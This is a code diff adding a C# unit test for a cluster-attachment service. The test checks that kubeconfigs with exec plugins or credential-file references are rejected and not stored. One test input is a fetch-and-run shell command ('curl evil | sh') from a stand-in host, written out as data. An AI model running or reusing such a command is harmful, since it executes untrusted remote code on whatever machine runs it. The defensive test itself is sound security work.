@@ -549,6 +549,28 @@ public abstract class ClusterServiceTests(PortalDatabaseFixture database) : Serv
         }
     }
 
+    [Theory]
+    [InlineData("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n")]
+    [InlineData("    auth-provider:\n      name: gcp\n")]
+    [InlineData("    tokenFile: /var/run/secrets/portal/token\n")]
+    [InlineData("    client-certificate: /etc/portal/tls.crt\n    client-key: /etc/portal/tls.key\n")]
+    public async Task AttachCluster_WithCredentialsThatRunACommandOrReadAFile_IsRefusedAndNothingIsStored(string user)
+    {
+        // The worker hands a stored kubeconfig to the client library, which runs exec plugins and reads files while it
+        // builds its configuration: such a kubeconfig must never be stored.
+        var (owner, team) = await TeamWithDevAsync();
+        var kubeconfig = $"apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://10.0.0.1:6443\n" +
+                         $"    certificate-authority-data: TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMHRMUzB0Q2c9PQ==\nusers:\n- name: u\n  user:\n{user}" +
+                         "contexts:\n- name: ctx\n  context: {cluster: c, user: u}\ncurrent-context: ctx\n";
+
+        var error = await Assert.ThrowsAsync<DomainValidationException>(() =>
+            Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("onprem", EnvironmentName.Dev, kubeconfig), Ct));
+
+        Assert.Contains("inline credentials", Assert.Single(error.Errors["kubeconfig"]));
+        await using var db = Database.CreateContext();
+        Assert.False(await db.Clusters.AnyAsync(c => c.TeamId == team.Id, Ct));
+    }
+
     [Fact]
     public async Task GetKubeconfig_Is409UntilTheEndpointIsKnown_ThenUsesAwsEksGetTokenAndHoldsNoSecret()
     {
